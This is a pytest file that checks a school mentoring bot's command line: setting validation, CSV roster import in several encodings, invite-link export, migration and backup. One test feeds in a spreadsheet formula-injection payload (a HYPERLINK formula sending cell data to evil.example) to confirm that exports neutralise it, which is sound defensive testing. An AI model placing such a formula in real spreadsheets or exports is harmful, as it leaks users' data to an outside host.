"""The command line as an operator uses it: exit codes, one-line errors, files in and out."""

from __future__ import annotations

import csv
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from storage.db import migrations
from tests.conftest import ROSTER


def run_cli(
    *args: str, env: dict[str, str] | None = None, cwd: Path | None = None
) -> subprocess.CompletedProcess[str]:
    clean = {
        k: v
        for k, v in os.environ.items()
        if k not in ("TELEGRAM_BOT_TOKEN", "TIMEZONE", "DATABASE_PATH")
    }
    return subprocess.run(
        [sys.executable, "-m", "bot", *args],
        capture_output=True,
        text=True,
        timeout=60,
        env={**clean, "PYTHONPATH": str(Path(__file__).parent.parent), **(env or {})},
        cwd=cwd,
        check=False,
    )


def test_a_missing_token_stops_with_exit_2_and_one_line(tmp_path: Path) -> None:
    result = run_cli("run", cwd=tmp_path)
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1
    assert result.stderr.startswith("mentorbot: TELEGRAM_BOT_TOKEN is missing")
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("TIMEZONE", "Europe/Amsterdm"),
        ("DEFAULT_LANGUAGE", "fr"),
        ("COORDINATOR_IDS", "abc"),
        ("TELEGRAM_API_BASE_URL", "localhost:8081"),
        ("CHECKIN_TIME", "١٤:٠٠"),
        ("CHECKIN_TIME", "1²:00"),
    ],
)
def test_a_malformed_setting_stops_with_exit_2_and_names_it(
    tmp_path: Path, name: str, value: str
) -> None:
    result = run_cli("run", env={"TELEGRAM_BOT_TOKEN": "1:x", name: value}, cwd=tmp_path)
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1
    assert result.stderr.startswith(f"mentorbot: {name} is invalid")


def test_help_explains_every_command(tmp_path: Path) -> None:
    result = run_cli("--help", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    for command in ("run", "demo", "import", "invites", "due", "migrate", "backup"):
        assert command in result.stdout


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_import_invites_due_migrate_and_backup(tmp_path: Path) -> None:
    env = {
        "DATABASE_PATH": str(tmp_path / "school.sqlite3"),
        "BOT_USERNAME": "school_bot",
        "CHECKIN_TIME": "14:00",
    }
    roster = tmp_path / "roster.csv"
    roster.write_text("\ufeff" + ROSTER.replace(",", ";"), encoding="utf-8")

    first = run_cli("import", str(roster), env=env, cwd=tmp_path)
    assert first.returncode == 0, first.stderr
    assert first.stdout == (
        f"imported: 3 placements, 7 people; 0 placements were there already; "
        f"read {roster} as UTF-8 with BOM, separated by semicolons\n"
    )
    assert mode(tmp_path / "school.sqlite3") == 0o600  # created by the import, private at once
    again = run_cli("import", str(roster), env=env, cwd=tmp_path)
    assert again.returncode == 0, again.stderr
    assert "imported: 0 placements, 0 people; 3 placements were there already" in again.stdout

    bad = tmp_path / "bad.csv"
    bad.write_text(ROSTER.replace("2026-06-26", "2026-06-31", 1), encoding="utf-8")
    refused = run_cli("import", str(bad), env=env, cwd=tmp_path)
    assert refused.returncode == 1
    assert "line 2: ends_on '2026-06-31' is not a date" in refused.stderr

    links = tmp_path / "links.csv"
    written = run_cli("invites", "--csv", str(links), env=env, cwd=tmp_path)
    assert written.returncode == 0, written.stderr
    assert mode(links) == 0o600
    with links.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == 7
    assert all(r["invite_link"].startswith("https://t.me/school_bot?start=") for r in rows)

    migrated = run_cli("migrate", env=env, cwd=tmp_path)
    assert migrated.returncode == 0, migrated.stderr
    assert f"at version {migrations()[-1][0]} (applied: none)" in migrated.stdout
    copy = tmp_path / "copy.sqlite3"
    backup = run_cli("backup", str(copy), env=env, cwd=tmp_path)
    assert backup.returncode == 0, backup.stderr
    assert copy.read_bytes().startswith(b"SQLite format 3\x00")
    assert mode(copy) == 0o600

    due = run_cli("due", "--at", "2026-03-06T14:00+01:00", env=env, cwd=tmp_path)
    assert due.returncode == 0, due.stderr
    assert "messages would be sent at 2026-03-06T14:00:00+01:00" in due.stdout


def test_a_dutch_excel_roster_is_read_and_its_encoding_named(tmp_path: Path) -> None:
    env = {"DATABASE_PATH": str(tmp_path / "school.sqlite3")}
    roster = tmp_path / "bpv.csv"
    roster.write_bytes(
        (
            ROSTER.splitlines()[0].replace(",", ";") + "\r\n"
            "Emre Özdemir;emre@student.example;Zoë van IJsselmeer;zoe@b.example;"
            "Bakkerij ’t Hoekje;Ingrid Bos;ingrid@school.example;2-3-2026;26-6-2026"
            "\r\n"
        ).encode("cp1252")
    )
    result = run_cli("import", str(roster), env=env, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout.endswith(f"read {roster} as Windows-1252, separated by semicolons\n")
    links = run_cli("invites", env={**env, "BOT_USERNAME": "school_bot"}, cwd=tmp_path)
    assert links.returncode == 0, links.stderr
    assert "Emre Özdemir <emre@student.example>" in links.stdout
    assert "Zoë van IJsselmeer <zoe@b.example>" in links.stdout


def test_a_broken_roster_gets_line_errors_and_writes_nothing(tmp_path: Path) -> None:
    env = {"DATABASE_PATH": str(tmp_path / "school.sqlite3")}
    lines = ROSTER.splitlines()
    lines[1] = lines[1].replace("Sanne de Vries", '"Sanne de Vries')  # never closed
    lines[2] = lines[2].replace("Daan Smit", "Daan\x07Smit")
    lines[3] = lines[3].replace("Zorgcentrum West", "Z" * 5000)
    roster = tmp_path / "broken.csv"
    roster.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = run_cli("import", str(roster), env=env, cwd=tmp_path)
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        'line 2: has a quote (") that is not closed on this line: a cell with a line break or '
        "a stray quote",
        "line 3: student_name holds a control character (U+0007)",
        "line 4: company is longer than 1000 characters",
        f"nothing imported: 3 bad rows (fix them, or use --skip-bad-rows); read {roster} as "
        "UTF-8, separated by commas",
    ]


def test_a_file_in_no_known_encoding_is_one_line(tmp_path: Path) -> None:
    roster = tmp_path / "roster.xlsx"
    roster.write_bytes(b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00\x81\x8d\x8f")
    result = run_cli(
        "import", str(roster), env={"DATABASE_PATH": str(tmp_path / "s.sqlite3")}, cwd=tmp_path
    )
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        'line 1: the file is neither UTF-8 nor Windows-1252; save it from Excel as "CSV UTF-8"',
        f"nothing imported: 1 bad rows (fix them, or use --skip-bad-rows); {roster} is no text "
        "file Excel saves",
    ]


def test_invite_lists_never_hold_a_formula(tmp_path: Path) -> None:
    env = {"DATABASE_PATH": str(tmp_path / "school.sqlite3"), "BOT_USERNAME": "school_bot"}
    names = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+31 6 12345678", "@Sanne", "-Daan"]
    lines = ROSTER.splitlines()
    for index, name in enumerate(names[:3], start=1):
        student = lines[index].split(",")[0]
        quoted = '"' + name.replace('"', '""') + '"'
        lines[index] = lines[index].replace(student, quoted, 1)
    lines[1] = lines[1].replace("Mark Jansen", names[3])  # a mentor's name
    roster = tmp_path / "roster.csv"
    roster.write_text("\n".join(lines) + "\n", encoding="utf-8")
    imported = run_cli("import", str(roster), env=env, cwd=tmp_path)
    assert imported.returncode == 0, imported.stderr
    links = tmp_path / "links.csv"
    assert run_cli("invites", "--csv", str(links), env=env, cwd=tmp_path).returncode == 0
    with links.open(encoding="utf-8-sig", newline="") as file:
        written = {row["name"] for row in csv.DictReader(file)}
    assert {"'" + name for name in names} <= written
    assert not [n for n in written if n.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_due_needs_a_time_zone(tmp_path: Path) -> None:
    result = run_cli("due", "--at", "2026-03-06T14:00", cwd=tmp_path)
    assert result.returncode == 2
    assert "give a time zone" in result.stderr
